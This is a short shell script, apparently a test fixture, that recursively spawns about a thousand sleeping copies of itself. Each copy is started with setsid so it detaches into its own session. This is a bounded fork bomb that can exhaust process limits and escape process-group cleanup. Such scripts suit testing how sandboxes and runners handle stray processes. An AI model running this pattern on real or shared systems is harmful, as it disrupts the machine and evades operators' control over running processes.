# Every process starts two more in their own sessions, up to a thousand.
generation=${1:-0}
[ "$generation" -ge 9 ] && exec sleep 1000
sleep 0.02
setsid sh "$0" $((generation + 1)) &
setsid sh "$0" $((generation + 1)) &
exec sleep 1000
